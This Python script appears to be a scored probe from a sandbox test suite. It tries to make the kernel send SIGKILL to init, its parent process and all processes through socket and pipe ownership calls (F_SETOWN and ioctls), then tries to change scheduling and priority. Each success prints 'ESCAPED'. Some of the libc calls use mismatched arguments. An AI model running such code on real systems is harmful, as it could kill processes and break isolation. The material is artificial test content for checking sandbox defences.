"""Has the kernel send signals to others: as the owner of a socket, of a pipe, by a timer.

Earns: 1
"""

import ctypes
import fcntl
import os
import signal
import socket
import struct

from flask import Flask

print("TRIED", flush=True)
ours, theirs = socket.socketpair()
for victim in (1, 2, os.getppid() or 3, -1):
    for owned in (ours.fileno(), os.pipe()[0]):
        for command, argument in ((fcntl.F_SETOWN, victim), (10, signal.SIGKILL)):
            try:
                fcntl.fcntl(owned, command, argument)
                print("ESCAPED: command", command, "for", victim, flush=True)
            except OSError:
                continue
        for request in (0x8901, 0x8902, 0x5452):  # FIOSETOWN, SIOCSPGRP, FIOASYNC
            try:
                fcntl.ioctl(owned, request, struct.pack("i", victim))
                print("ESCAPED: request", hex(request), "for", victim, flush=True)
            except OSError:
                continue
theirs.send(b"x")
libc = ctypes.CDLL(None, use_errno=True)
for name in ("sched_setaffinity", "sched_setscheduler", "setpriority", "ioprio_set", "sync"):
    call = getattr(libc, name, None)
    if call is not None and name != "sync" and call(0, 8, struct.pack("Q", 1)) == 0:
        print("ESCAPED:", name, flush=True)
app = Flask(__name__)
